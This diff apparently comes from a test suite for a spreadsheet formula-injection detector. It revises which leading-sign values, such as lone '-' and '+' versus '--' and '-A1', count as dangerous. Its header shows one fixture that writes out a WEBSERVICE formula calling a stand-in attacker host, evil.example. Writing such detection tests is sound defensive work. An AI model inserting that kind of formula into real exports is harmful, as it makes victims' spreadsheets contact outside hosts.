@@ -39,7 +39,10 @@ CONTACT = '=WEBSERVICE("http://evil.example/")'
         ("+3.5", False),
         ("-12%", False),
         ("-1,234.5", False),
-        ("-", True),
+        ("-", False),  # a lone sign: an office's "nothing", evaluated by no program
+        ("+", False),
+        ("--", True),
+        ("-A1", True),
         ("长阳镇=1", False),
         ("", False),
         (5, False),
